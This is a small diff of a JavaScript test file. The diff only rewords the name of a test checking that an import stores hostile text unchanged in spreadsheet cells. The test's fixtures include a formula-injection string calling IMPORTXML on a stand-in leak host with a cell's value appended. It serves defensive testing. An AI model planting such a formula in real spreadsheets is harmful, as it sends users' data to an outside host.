@@ -28,7 +28,7 @@ test('an import writes a status and typed values beside each URL, with ids as te
   expect(view(file, id)).toMatchObject({ run: null, last: { ok: 2, failed: 1, credits: 2, message: 'Finished.' } });
 });
 
-test('an import writes hostile text unchanged, also into cells with the plain text format', async () => {
+test('an import writes hostile text unchanged, even into cells with the plain text format', async () => {
   const texts = [
     '=IMPORTXML("http://leak.example/?"&A1,"//a")',
     '+1',
